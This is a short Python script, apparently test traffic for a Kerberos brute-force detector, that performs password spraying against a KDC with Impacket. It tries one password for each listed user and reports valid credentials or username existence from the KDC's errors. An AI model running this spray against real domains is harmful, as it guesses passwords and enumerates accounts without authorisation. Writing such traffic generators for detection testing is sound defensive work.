#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
# kerberos_spray.py KDC_IP REALM PASSWORD USER...: Kerberos password spraying
# as kerbrute's passwordspray and Impacket's tools send it: for each USER in
# turn an AS-REQ with pre-authentication (PA-ENC-TIMESTAMP made with
# PASSWORD), over TCP to port 88, through Impacket's getKerberosTGT. A KDC
# answers a wrong password with KDC_ERR_PREAUTH_FAILED and an unknown user
# with KDC_ERR_C_PRINCIPAL_UNKNOWN. Traffic for kerberos.brute_force in
# selftests/e2e/test_dcerpc_dc.sh and the coverage scenario
# kerberos_spray. Prints one line per user (the KDC's error, or "ok");
# exits 0 when every request was answered.
import sys

from impacket.krb5 import constants
from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
from impacket.krb5.types import Principal


def main():
    if len(sys.argv) < 5:
        print("usage: kerberos_spray.py KDC_IP REALM PASSWORD USER...", file=sys.stderr)
        return 2
    kdc, realm, password, users = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
    unanswered = 0
    for user in users:
        name = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
        try:
            getKerberosTGT(name, password, realm, b"", b"", "", kdc)
            print("%s: ok" % user)
        except KerberosError as e:
            print("%s: %s" % (user, e.getErrorString()[0]))
        except OSError as e:
            print("%s: no answer (%s)" % (user, e))
            unanswered += 1
        except Exception as e:  # noqa: BLE001 (Impacket's own, e.g. an etype it lacks)
            print("%s: %s: %s" % (user, type(e).__name__, e))
    return 1 if unanswered else 0


if __name__ == "__main__":
    sys.exit(main())
